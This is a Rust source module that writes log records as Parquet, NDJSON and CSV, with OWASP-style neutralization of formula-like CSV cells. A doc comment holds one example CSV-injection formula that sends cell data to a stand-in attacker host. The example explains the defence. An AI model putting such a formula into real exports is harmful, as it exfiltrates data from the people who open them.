//! Records into bytes: Parquet (through Arrow), NDJSON and CSV, each written a record at a time
//! into any [`Write`], so memory holds at most one Parquet row group whatever the input's size.

use std::io::{self, BufWriter, Write};
use std::sync::Arc;

use arrow_array::builder::{Int64Builder, StringBuilder, TimestampMillisecondBuilder};
use arrow_array::{ArrayRef, RecordBatch};
use arrow_schema::{DataType, Field, Schema, SchemaRef, TimeUnit};
use parquet::arrow::ArrowWriter;
use parquet::basic::Compression;
use parquet::file::metadata::KeyValue;
use parquet::file::properties::{EnabledStatistics, WriterProperties};
use parquet::schema::types::ColumnPath;
use serde_json::{Map, Value};

use crate::columns::{epoch_millis, Cell, ColumnType, Table, EXTRA};
use crate::members::{self, FromRaw, RawLine, Time};
use crate::Format;

/// Rows per Parquet row group, at most: 128 Ki rows, near DuckDB's own 122,880 and enough for
/// engines to split a file across threads; a row group is also cut at [`ROW_GROUP_BYTES`].
pub const ROW_GROUP_ROWS: usize = 128 * 1024;
/// Encoded bytes a row group may hold before it is written out: bounds memory per open file.
pub const ROW_GROUP_BYTES: usize = 48 << 20;
/// Rows gathered into one Arrow batch before it is handed to the Parquet writer.
const BATCH_ROWS: usize = 8 * 1024;
/// zstd level 1: on log records it compresses within 2% of level 3 (13.8 vs 14.0 MiB for
/// 259 MiB of L7 NDJSON) and leaves more of the CPU to parsing. Without the `zstd` feature,
/// snappy.
#[cfg(feature = "zstd")]
fn compression() -> Compression {
    Compression::ZSTD(parquet::basic::ZstdLevel::try_new(1).unwrap_or_default())
}

#[cfg(not(feature = "zstd"))]
fn compression() -> Compression {
    Compression::SNAPPY
}

/// The Arrow schema of a record type: its columns in order, then [`EXTRA`]. Every column is
/// nullable (a member may be absent or a sentinel).
pub fn schema<T: Table>() -> SchemaRef {
    let mut fields: Vec<Field> = T::columns()
        .iter()
        .map(|c| Field::new(c.name, data_type(c.kind), true))
        .collect();
    fields.push(Field::new(EXTRA, DataType::Utf8, true));
    let metadata = [
        ("teo.kind".to_owned(), T::KIND.as_str().to_owned()),
        ("teo.schema".to_owned(), SCHEMA_VERSION.to_owned()),
    ];
    Arc::new(
        Schema::new(fields).with_metadata(
            metadata
                .into_iter()
                .collect::<std::collections::HashMap<_, _>>(),
        ),
    )
}

/// Written into each file's metadata; raised when a column changes meaning.
pub const SCHEMA_VERSION: &str = "1";

fn data_type(kind: ColumnType) -> DataType {
    match kind {
        ColumnType::Text { .. } => DataType::Utf8,
        ColumnType::Int => DataType::Int64,
        ColumnType::Time => DataType::Timestamp(TimeUnit::Millisecond, Some("UTC".into())),
    }
}

/// How Parquet files are written: zstd (or snappy without the `zstd` feature), row groups
/// bounded by rows and bytes, dictionary encoding on the low-cardinality text columns only (ids
/// and addresses would only overflow the dictionary and fall back), the schema version in the
/// file's metadata.
pub fn writer_properties<T: Table>() -> WriterProperties {
    let mut props = WriterProperties::builder()
        .set_compression(compression())
        .set_max_row_group_row_count(Some(ROW_GROUP_ROWS))
        .set_max_row_group_bytes(Some(ROW_GROUP_BYTES))
        .set_statistics_enabled(EnabledStatistics::Page)
        .set_created_by(format!("teo-logs {}", env!("CARGO_PKG_VERSION")))
        .set_key_value_metadata(Some(vec![KeyValue::new(
            "teo.schema".to_owned(),
            SCHEMA_VERSION.to_owned(),
        )]));
    for c in T::columns() {
        let dictionary = matches!(c.kind, ColumnType::Text { dictionary: true })
            || !matches!(c.kind, ColumnType::Text { .. });
        props = props.set_column_dictionary_enabled(ColumnPath::from(c.name), dictionary);
    }
    props = props.set_column_dictionary_enabled(ColumnPath::from(EXTRA), false);
    props.build()
}

/// An error of an encoder, with its cause; the caller adds the file.
#[derive(Debug, thiserror::Error)]
pub enum EncodeError {
    /// Writing to the output failed.
    #[error(transparent)]
    Io(#[from] io::Error),
    /// The Parquet writer failed.
    #[error("Parquet: {0}")]
    Parquet(#[from] parquet::errors::ParquetError),
    /// Building the Arrow batch or schema failed.
    #[error("Arrow: {0}")]
    Arrow(#[from] arrow_schema::ArrowError),
    /// The CSV writer failed.
    #[error("CSV: {0}")]
    Csv(#[from] csv::Error),
    /// Columns were given to a text format's encoder: only Parquet is written from columns.
    #[error("only Parquet is written from typed columns")]
    ColumnsNotParquet,
}

/// How CSV text cells are written.
///
/// Request URLs, user agents and referers are chosen by any visitor of a site, and a
/// spreadsheet runs a cell such as `=HYPERLINK("https://evil.example/?x="&B2)` as a formula.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CsvCells {
    /// A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
    /// `'` (OWASP's rule for CSV injection), so spreadsheets show it as text. Numbers are
    /// written as they are.
    #[default]
    Neutralized,
    /// Every value exactly as sent, for engines (DuckDB, Spark) that never evaluate cells.
    Raw,
}

/// Writes records of type `T` in one [`Format`] into `W`.
pub enum Encoder<T: Table, W: Write + Send> {
    /// One JSON object per line, buffered.
    Ndjson(BufWriter<W>),
    /// A header row, then one row per record; cells written as the [`CsvCells`] says.
    Csv(Box<csv::Writer<W>>, CsvCells),
    /// Records gathered into Arrow batches, each written as a row group when full.
    Parquet {
        /// The Parquet file being written.
        writer: Box<ArrowWriter<W>>,
        /// The rows not yet written.
        batch: Batch<T>,
    },
}

impl<T: Table, W: Write + Send> Encoder<T, W> {
    /// An encoder writing to `out`; CSV writes its header at once, with formula-like cells
    /// neutralized.
    pub fn new(format: Format, out: W) -> Result<Self, EncodeError> {
        Self::with_csv_cells(format, out, CsvCells::Neutralized)
    }

    /// As [`Encoder::new`], with CSV cells written as `cells` says.
    pub fn with_csv_cells(format: Format, out: W, cells: CsvCells) -> Result<Self, EncodeError> {
        Ok(match format {
            Format::Ndjson => Encoder::Ndjson(BufWriter::with_capacity(256 << 10, out)),
            Format::Csv => {
                let mut writer = csv::WriterBuilder::new()
                    .buffer_capacity(256 << 10)
                    .from_writer(out);
                let header = T::columns().iter().map(|c| c.name).chain([EXTRA]);
                writer.write_record(header)?;
                Encoder::Csv(Box::new(writer), cells)
            }
            Format::Parquet => Encoder::Parquet {
                writer: Box::new(ArrowWriter::try_new(
                    out,
                    schema::<T>(),
                    Some(writer_properties::<T>()),
                )?),
                batch: Batch::new(),
            },
        })
    }

    /// Writes one record (Parquet: adds it to the batch, written once the batch is full).
    pub fn push(&mut self, record: &T) -> Result<(), EncodeError> {
        match self {
            Encoder::Ndjson(out) => {
                write_json(record, out)?;
                out.write_all(b"\n")?;
            }
            Encoder::Csv(out, cells) => write_csv(record, out, *cells)?,
            Encoder::Parquet { writer, batch } => {
                batch.push(record);
                if batch.rows >= BATCH_ROWS {
                    writer.write(&batch.finish()?)?;
                }
            }
        }
        Ok(())
    }

    /// Writes rows already in columns of `T`'s schema (Parquet only: the text formats are
    /// written from records).
    pub fn push_batch(&mut self, rows: &RecordBatch) -> Result<(), EncodeError> {
        match self {
            Encoder::Parquet { writer, batch } => {
                if batch.rows > 0 {
                    writer.write(&batch.finish()?)?;
                }
                writer.write(rows)?;
                Ok(())
            }
            Encoder::Ndjson(_) | Encoder::Csv(..) => Err(EncodeError::ColumnsNotParquet),
        }
    }

    /// Ends the file (Parquet's footer) and returns the writer, flushed.
    pub fn finish(self) -> Result<W, EncodeError> {
        Ok(match self {
            Encoder::Ndjson(out) => out.into_inner().map_err(|e| e.into_error())?,
            Encoder::Csv(out, _) => out.into_inner().map_err(|e| e.into_error())?,
            Encoder::Parquet {
                mut writer,
                mut batch,
            } => {
                if batch.rows > 0 {
                    writer.write(&batch.finish()?)?;
                }
                writer.into_inner()?
            }
        })
    }
}

/// Arrow column builders for records of type `T`.
pub struct Batch<T: Table> {
    columns: Vec<Builder>,
    extra: StringBuilder,
    rows: usize,
    _table: std::marker::PhantomData<fn(&T)>,
}

enum Builder {
    Text(StringBuilder),
    Int(Int64Builder),
    Time(TimestampMillisecondBuilder),
}

impl<T: Table> Batch<T> {
    /// An empty batch with one builder per column of `T`.
    pub fn new() -> Self {
        Batch {
            columns: T::columns()
                .iter()
                .map(|c| match c.kind {
                    ColumnType::Text { .. } => Builder::Text(StringBuilder::new()),
                    ColumnType::Int => Builder::Int(Int64Builder::new()),
                    ColumnType::Time => {
                        Builder::Time(TimestampMillisecondBuilder::new().with_timezone("UTC"))
                    }
                })
                .collect(),
            extra: StringBuilder::new(),
            rows: 0,
            _table: std::marker::PhantomData,
        }
    }

    /// Adds one record as a row; date-time text that is no instant goes to the extra column.
    pub fn push(&mut self, record: &T) {
        // Date-times whose text is no instant keep that text in `extra`: a timestamp column
        // cannot hold it, and it must not be lost.
        let mut unparsed: Option<Map<String, Value>> = None;
        for (column, builder) in T::columns().iter().zip(&mut self.columns) {
            match (builder, (column.get)(record)) {
                (Builder::Text(b), Cell::Text(v)) => b.append_option(v),
                (Builder::Int(b), Cell::Int(v)) => b.append_option(v),
                (Builder::Time(b), Cell::Time(v)) => {
                    let millis = v.and_then(|t| t.instant()).and_then(epoch_millis);
                    if let (None, Some(text)) = (millis, v) {
                        unparsed
                            .get_or_insert_with(Map::new)
                            .insert(column.name.to_owned(), Value::from(text.as_str()));
                    }
                    b.append_option(millis);
                }
                // The builders are made from the same columns, in the same order.
                _ => unreachable!("builder and column types differ"),
            }
        }
        let extra = record.extra();
        if extra.is_empty() && unparsed.is_none() {
            self.extra.append_null();
        } else {
            let mut all = unparsed.unwrap_or_default();
            all.extend(extra.iter().map(|(k, v)| (k.clone(), v.clone())));
            self.extra.append_value(Value::Object(all).to_string());
        }
        self.rows += 1;
    }

    /// Adds the record whose raw members are `line` as a row, each member read straight into
    /// its column: the row [`Batch::push`] adds for the record `T::from_raw(line)`, without
    /// making the record's strings. On an error the row may be half added: drop the batch.
    pub(crate) fn push_raw(&mut self, line: &RawLine<'_>) -> Result<(), String>
    where
        T: FromRaw,
    {
        let mut unparsed: Option<Map<String, Value>> = None;
        for (i, (builder, field)) in self.columns.iter_mut().zip(T::fields()).enumerate() {
            match builder {
                Builder::Text(b) => {
                    b.append_option(members::text_member(line.slot(i), field)?.as_deref());
                }
                Builder::Int(b) => b.append_option(members::int(line.slot(i), field)?),
                Builder::Time(b) => {
                    let value = members::time(line.slot(i), field)?.map(Time::into_date_time);
                    let millis = value
                        .as_ref()
                        .and_then(|t| t.instant())
                        .and_then(epoch_millis);
                    if let (None, Some(text)) = (millis, &value) {
                        unparsed
                            .get_or_insert_with(Map::new)
                            .insert(field.name.to_owned(), Value::from(text.as_str()));
                    }
                    b.append_option(millis);
                }
            }
        }
        let extra = line.extra()?;
        if extra.is_empty() && unparsed.is_none() {
            self.extra.append_null();
        } else {
            let mut all = unparsed.unwrap_or_default();
            all.extend(extra);
            self.extra.append_value(Value::Object(all).to_string());
        }
        self.rows += 1;
        Ok(())
    }

    /// Rows gathered since the batch was made or last finished.
    pub fn rows(&self) -> usize {
        self.rows
    }

    /// The rows gathered so far as a batch; the builders start over.
    pub fn finish(&mut self) -> Result<RecordBatch, EncodeError> {
        let mut arrays: Vec<ArrayRef> = self
            .columns
            .iter_mut()
            .map(|b| -> ArrayRef {
                match b {
                    Builder::Text(b) => Arc::new(b.finish()),
                    Builder::Int(b) => Arc::new(b.finish()),
                    Builder::Time(b) => Arc::new(b.finish()),
                }
            })
            .collect();
        arrays.push(Arc::new(self.extra.finish()));
        self.rows = 0;
        Ok(RecordBatch::try_new(schema::<T>(), arrays)?)
    }
}

impl<T: Table> Default for Batch<T> {
    fn default() -> Self {
        Self::new()
    }
}

/// One NDJSON line (without its newline): the record's members under their wire names, absent
/// ones left out, date-times as sent, then the unknown members as sent.
pub fn write_json<T: Table>(record: &T, out: &mut impl Write) -> io::Result<()> {
    let mut first = true;
    let mut sep = |out: &mut dyn Write| -> io::Result<()> {
        let s: &[u8] = if first { b"{" } else { b"," };
        first = false;
        out.write_all(s)
    };
    for column in T::columns() {
        let cell = (column.get)(record);
        let present = match cell {
            Cell::Text(v) => v.is_some(),
            Cell::Int(v) => v.is_some(),
            Cell::Time(v) => v.is_some(),
        };
        if !present {
            continue;
        }
        sep(out)?;
        // Wire names are plain ASCII identifiers: no escaping needed.
        out.write_all(b"\"")?;
        out.write_all(column.name.as_bytes())?;
        out.write_all(b"\":")?;
        match cell {
            Cell::Text(Some(s)) => serde_json::to_writer(&mut *out, s)?,
            Cell::Int(Some(n)) => write!(out, "{n}")?,
            Cell::Time(Some(t)) => serde_json::to_writer(&mut *out, t.as_str())?,
            _ => {}
        }
    }
    for (name, value) in record.extra() {
        sep(out)?;
        serde_json::to_writer(&mut *out, name)?;
        out.write_all(b":")?;
        serde_json::to_writer(&mut *out, value)?;
    }
    if first {
        out.write_all(b"{")?;
    }
    out.write_all(b"}")
}

/// One CSV row: every column (empty when absent), date-times as sent, then `extra` as JSON.
fn write_csv<T: Table, W: Write>(
    record: &T,
    out: &mut csv::Writer<W>,
    cells: CsvCells,
) -> csv::Result<()> {
    let mut number = String::with_capacity(20);
    let mut quoted = String::new();
    let mut text = |value: &str, out: &mut csv::Writer<W>| {
        if cells == CsvCells::Neutralized && runs_as_formula(value) {
            quoted.clear();
            quoted.push('\'');
            quoted.push_str(value);
            out.write_field(&quoted)
        } else {
            out.write_field(value)
        }
    };
    for column in T::columns() {
        match (column.get)(record) {
            Cell::Text(v) => text(v.unwrap_or(""), out)?,
            Cell::Int(Some(n)) => {
                number.clear();
                use std::fmt::Write as _;
                let _ = write!(number, "{n}");
                out.write_field(&number)?;
            }
            Cell::Int(None) | Cell::Time(None) => out.write_field("")?,
            Cell::Time(Some(t)) => text(t.as_str(), out)?,
        }
    }
    let extra = record.extra();
    if extra.is_empty() {
        out.write_field("")?;
    } else {
        out.write_field(serde_json::to_string(extra).map_err(io::Error::other)?)?;
    }
    out.write_record(None::<&[u8]>)
}

/// Whether a spreadsheet would take a cell starting so as a formula (OWASP's list).
fn runs_as_formula(value: &str) -> bool {
    matches!(
        value.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// zstd with the `zstd` feature (default), snappy without: `cargo test -p teo-logs
    /// --no-default-features` (CI runs it) checks the second.
    #[test]
    fn parquet_is_compressed_as_the_zstd_feature_says() {
        let props = writer_properties::<crate::records::L7Record>();
        let codec = props.compression(&ColumnPath::from("ClientIP"));
        if cfg!(feature = "zstd") {
            assert!(matches!(codec, Compression::ZSTD(_)), "{codec:?}");
        } else {
            assert_eq!(codec, Compression::SNAPPY);
        }
    }
}
